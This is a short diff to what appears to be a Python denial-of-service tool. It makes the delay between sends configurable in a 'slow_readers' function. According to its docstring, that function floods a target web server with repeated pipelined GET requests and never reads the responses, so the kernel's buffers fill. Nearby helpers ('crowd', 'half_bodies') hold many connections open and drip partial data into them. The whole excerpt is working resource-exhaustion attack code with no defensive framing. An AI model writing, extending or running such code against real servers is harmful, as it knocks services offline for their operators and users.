@@ -68,7 +68,7 @@ def crowd(
                 random.choice(held).sendall(drip)
 
 
-def slow_readers(end: float, target: str, sources: str, size: str, *headers: str) -> None:
+def slow_readers(end: float, target: str, sources: str, size: str, pause: str, *headers: str) -> None:
     """Request pages again and again, and read none of them: so the kernel's buffers are full as well."""
 
     def request(number: int) -> bytes:
@@ -76,7 +76,7 @@ def slow_readers(end: float, target: str, sources: str, size: str, *headers: str
         lines = (f"GET {page} HTTP/1.1", "Host: x", f"Accept: {form}", *headers, "", "")
         return "\r\n".join(lines).encode() * 40
 
-    crowd(end, target, sources, int(size), 0.02, request, buffer=2048)
+    crowd(end, target, sources, int(size), float(pause), request, buffer=2048)
 
 
 def half_bodies(end: float, target: str, sources: str, size: str, path: str) -> None:
